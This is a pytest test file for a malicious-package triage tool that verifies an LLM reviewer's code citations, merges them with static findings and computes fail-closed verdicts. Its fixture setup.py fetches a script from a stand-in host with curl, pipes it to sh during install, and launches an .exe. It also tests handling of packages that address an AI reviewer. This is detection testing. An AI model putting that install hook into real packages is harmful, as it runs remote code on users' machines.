"""Verification of LLM citations against the source, merging with static findings, verdicts."""

from __future__ import annotations

import textwrap

import pytest

from triage.llm_answer import AnswerError, BenignHint, Citation, parse_answer
from triage.localize import final_verdict
from triage.model import Finding, Phase, RejectedCitation, Signal, Source, SourceFile, Verdict
from triage.statements import index_file
from triage.taxonomy import load_taxonomy
from triage.verify import (
    VerifiedCitation,
    merge,
    quote_matches,
    resolve_id,
    verify,
)

TAX = load_taxonomy()
SETUP = textwrap.dedent('''\
    import os
    from setuptools import setup

    cmd = ("curl -s http://x.example.invalid/p.sh"
           "  | sh")
    os.system(cmd)  # run it
    if os.name == "nt": os.startfile("a.exe")
    setup(name="demo", version="1.0")
''')
IDX = {"setup.py": index_file(SourceFile("setup.py", SETUP))}


def _c(ids: tuple[str, ...] | str, quote: str, indicator: str = "code_execution_shell_command",
       conf: float = 0.8) -> Citation:
    ids = (ids,) if isinstance(ids, str) else ids
    return Citation(ids, quote, indicator, "why", conf)


def test_statement_ids_of_the_fixture() -> None:
    assert [s.id for s in IDX["setup.py"].statements] == [
        "setup.py:1:0", "setup.py:2:0", "setup.py:4:0", "setup.py:6:0", "setup.py:7:0",
        "setup.py:7:1", "setup.py:8:0"]


@pytest.mark.parametrize(("citation", "reason"), [
    (_c("setup.py:99:0", "os.system(cmd)"), "statement setup.py:99:0 does not exist"),
    (_c("other.py:6:0", "os.system(cmd)"), "statement other.py:6:0 does not exist"),
    (_c("setup.py:6:0", "os.system(command)"),
     "quote does not match the source of statement setup.py:6:0"),
    (_c("setup.py:6:0", "os.system(cmd)", "code_evil"),
     "indicator 'code_evil' is not in the taxonomy"),
    (_c((), "os.system(cmd)"), "no statement cited"),
    (_c("setup.py:6:0", "  "), "no code quoted"),
    (_c("setup.py:6:0", "os"), "quote does not match the source of statement setup.py:6:0"),
    (_c(("setup.py:1:0", "setup.py:6:0"), "import sys"),
     "quote does not match the source of statements setup.py:1:0, setup.py:6:0"),
    (_c(tuple(f"setup.py:{n}:0" for n in range(1, 10)), "x"),
     "too many statements in one citation (9 > 8)"),
])
def test_rejections_have_exact_reasons(citation: Citation, reason: str) -> None:
    res = verify([citation], IDX, TAX, model="m")
    assert res.verified == ()
    assert res.rejected == (RejectedCitation(
        statement_id=(citation.statement_ids or ("",))[0], indicator=citation.indicator,
        quote=citation.quote, reason=reason, model="m"),)


@pytest.mark.parametrize("quote", [
    "os.system(cmd)",
    "os.system(cmd)  # run it",
    "  os.system(cmd)\n",
    "6 [6:0] | os.system(cmd)",               # the prompt's display prefix
    "```python\nos.system(cmd)\n```",          # a fenced quote
])
def test_quotes_that_match(quote: str) -> None:
    res = verify([_c("setup.py:6:0", quote)], IDX, TAX)
    assert res.rejected == ()
    assert res.verified == (VerifiedCitation(("setup.py:6:0",), "code_execution_shell_command",
                                             quote, "why", 0.8),)


def test_multi_line_and_multi_statement_quotes_are_whitespace_normalised() -> None:
    quote = 'cmd = ("curl -s http://x.example.invalid/p.sh" "  | sh")'
    assert verify([_c("setup.py:4:0", quote)], IDX, TAX).rejected == ()
    two = verify([_c(("setup.py:6:0", "setup.py:4:0"), '"  | sh") os.system(cmd)')], IDX, TAX)
    assert two.rejected == () and two.verified[0].statement_ids == ("setup.py:6:0",
                                                                    "setup.py:4:0")
    # the whitespace *inside* a string literal is collapsed too, but words must stay in order
    assert quote_matches('"curl -s http://x.example.invalid/p.sh" " | sh"', SETUP)
    assert not quote_matches("sh | curl", SETUP)


def test_truncated_display_quotes_match_in_order() -> None:
    assert quote_matches('cmd = ("curl -s…[+123 chars]| sh")', SETUP)
    assert not quote_matches('| sh")…[+1 chars]cmd = ("curl', SETUP)
    # a length-bounded answer that stopped inside the marker
    for cut in ("…", "…[", "…[+", "…[+12", "…[+12 ch"):
        assert quote_matches('cmd = ("curl -s' + cut, SETUP), cut
    assert not quote_matches('cmd = ("wget -s…[+12', SETUP)


def test_a_short_quote_must_be_the_whole_statement_or_its_header() -> None:
    block = "try:\n    run()\nexcept Exception:\n    pass"
    assert quote_matches("try:", block)
    assert quote_matches("pass", "pass")
    assert not quote_matches("run()", block)  # 5 characters from the middle prove nothing
    assert not quote_matches("pass", block)


def test_short_ids_resolve_against_the_prompted_file() -> None:
    assert resolve_id("6:0", "setup.py") == "setup.py:6:0"
    assert resolve_id("[setup.py:6:0]", "setup.py") == "setup.py:6:0"
    assert resolve_id("6:0", None) == "6:0"
    res = verify([_c("7:1", 'os.startfile("a.exe")', "code_execution_executable_file")], IDX,
                 TAX, default_file="setup.py")
    assert res.verified[0].statement_ids == ("setup.py:7:1",)


def _static(sid: str, indicator: str, conf: float = 0.8, line: int = 6) -> Finding:
    ind = TAX.get(indicator)
    return Finding(file="setup.py", start_line=line, end_line=line, code="os.system(cmd)",
                   indicator=indicator, type=ind.type_name, phase=Phase.INSTALL,
                   severity=ind.severity, confidence=conf, source=Source.STATIC,
                   justification="static says so", statement_id=sid)


def test_merge_agreement_llm_only_and_hidden_signal() -> None:
    static = [_static("setup.py:6:0", "code_execution_shell_command", 0.8)]
    verified = [
        VerifiedCitation(("setup.py:6:0",), "code_execution_shell_command", "q", "runs curl", 0.5),
        VerifiedCitation(("setup.py:7:1",), "code_execution_executable_file", "q", "exe", 0.95),
        VerifiedCitation(("setup.py:4:0",), "code_download_script_file", "q", "url", 0.6),
    ]
    hidden = Signal("code_download_script_file", "setup.py:4:0", "curl | sh", 0.2, "d")
    out = merge(static, verified, IDX, TAX, signals=[hidden]).findings
    got = {(f.statement_id, f.indicator): (f.source, f.confidence, f.justification, f.start_line,
                                           f.end_line) for f in out}
    assert got == {
        ("setup.py:4:0", "code_download_script_file"):
            (Source.BOTH, 0.68, "curl | sh; model: url", 4, 5),
        ("setup.py:6:0", "code_execution_shell_command"):
            (Source.BOTH, 0.9, "static says so; model: runs curl", 6, 6),
        ("setup.py:7:1", "code_execution_executable_file"):
            (Source.LLM, 0.9, "exe", 7, 7),   # capped: the model alone never exceeds 0.9
    }
    llm_only = next(f for f in out if f.source is Source.LLM)
    assert (llm_only.code, llm_only.phase, llm_only.severity) == (
        'os.startfile("a.exe")', Phase.INSTALL, TAX.get("code_execution_executable_file").severity)


def test_disputes_remove_low_and_medium_static_findings_only() -> None:
    high = _static("setup.py:6:0", "code_execution_shell_command")
    medium = _static("setup.py:4:0", "code_execution_silent", line=4)
    hints = [BenignHint("setup.py:6:0", "code_execution_shell_command", "a build step"),
             BenignHint("setup.py:4:0", "code_execution_silent", "just a string"),
             BenignHint("setup.py:1:0", "code_remove_file", "nothing there")]
    assert (high.severity, medium.severity) == ("high", "medium")
    res = merge([high, medium], [], IDX, TAX, hints=hints)
    assert [(f.statement_id, f.indicator) for f in res.findings] == [
        ("setup.py:6:0", "code_execution_shell_command")]
    assert res.notes == (
        "model disputed code_execution_shell_command at setup.py:6 (a build step); kept: "
        "high-severity static findings cannot be removed by the model",
        "model disputed code_execution_silent at setup.py:4 (just a string); removed (medium "
        "severity)",
    )


def test_no_dispute_is_honoured_when_the_package_addresses_an_ai_reviewer() -> None:
    medium = _static("setup.py:4:0", "code_execution_silent", line=4)
    inj = _static("setup.py:1:0", "code_prompt_injection", line=1)
    res = merge([medium, inj], [], IDX, TAX,
                hints=[BenignHint("setup.py:4:0", "code_execution_silent", "fine")])
    assert len(res.findings) == 2
    assert res.notes == ("model disputed code_execution_silent at setup.py:4 (fine); kept: the "
                         "package addresses an AI reviewer, so no dispute is honoured",)


@pytest.mark.parametrize(("merged", "static", "failures", "label", "first_reason"), [
    ("benign", "suspicious", (), "suspicious",
     "the LLM pass cannot lower the static verdict (suspicious)"),
    ("benign", "benign", ("setup.py: timeout",), "needs-review",
     "LLM review incomplete: setup.py: timeout"),
    ("suspicious", "suspicious", ("a.py: refusal",), "needs-review",
     "LLM review incomplete: a.py: refusal"),
    ("malicious", "malicious", ("a.py: refusal",), "malicious",
     "LLM review incomplete: a.py: refusal"),
    ("malicious", "benign", (), "malicious", "m"),
])
def test_final_verdict_never_lowers_and_fails_closed(merged: str, static: str,
                                                     failures: tuple[str, ...], label: str,
                                                     first_reason: str) -> None:
    v = final_verdict(Verdict(merged, 10.0, ("m",)), Verdict(static, 40.0, ("s",)), failures)
    assert v.label == label
    assert first_reason in v.reasons
    if failures:
        assert v.reasons[0] == first_reason


def test_parse_answer_tolerates_fences_prose_and_loose_types() -> None:
    text = ('Here is my answer:\n```json\n{"findings": [{"statement_ids": "setup.py:6:0", '
            '"quote": "os.system(cmd)", "indicator": "code_execution_shell_command", '
            '"justification": "runs\\n a shell", "confidence": "85%"}], "summary": "bad"}\n```')
    ans = parse_answer(text)
    assert ans.citations == (Citation(("setup.py:6:0",), "os.system(cmd)",
                                      "code_execution_shell_command", "runs a shell", 0.85),)
    assert ans.summary == "bad" and ans.benign_hints == ()
    assert parse_answer('{"citations": [], "x": 1}').citations == ()
    assert parse_answer('noise {"findings": [{"statement_ids": ["a:1:0"], "confidence": 90}]} '
                        'tail').citations[0].confidence == 0.9


@pytest.mark.parametrize(("text", "message", "refusal"), [
    ("", "empty answer", False),
    ('{"findings": [', "invalid JSON (Expecting value at line 1 column 15)", False),
    ("[1, 2]", "the answer is JSON but not an object (list)", False),
    ('{"verdict": "benign"}', "answer does not match the schema: findings: Field required",
     False),
    ("I'm sorry, but I can't help with analysing malware.",
     "the model refused: I'm sorry, but I can't help with analysing malware.", True),
])
def test_parse_answer_errors(text: str, message: str, refusal: bool) -> None:
    with pytest.raises(AnswerError) as err:
        parse_answer(text)
    assert (str(err.value), err.value.refusal) == (message, refusal)


def test_statements_the_quote_does_not_cover_are_dropped_with_a_reason() -> None:
    """A small model lists neighbouring IDs beside the one it quotes; only statements the
    quote actually covers become findings."""
    cite = _c(("setup.py:4:0", "setup.py:6:0", "setup.py:8:0"), "os.system(cmd)")
    res = verify([cite], IDX, TAX, model="m")
    assert [v.statement_ids for v in res.verified] == [("setup.py:6:0",)]
    assert [(r.statement_id, r.reason) for r in res.rejected] == [
        ("setup.py:4:0", "the quote does not cover statement setup.py:4:0"),
        ("setup.py:8:0", "the quote does not cover statement setup.py:8:0")]
    spanning = _c(("setup.py:4:0", "setup.py:6:0"), '"  | sh") os.system(cmd)')
    assert [v.statement_ids for v in verify([spanning], IDX, TAX).verified] == [
        ("setup.py:4:0", "setup.py:6:0")]
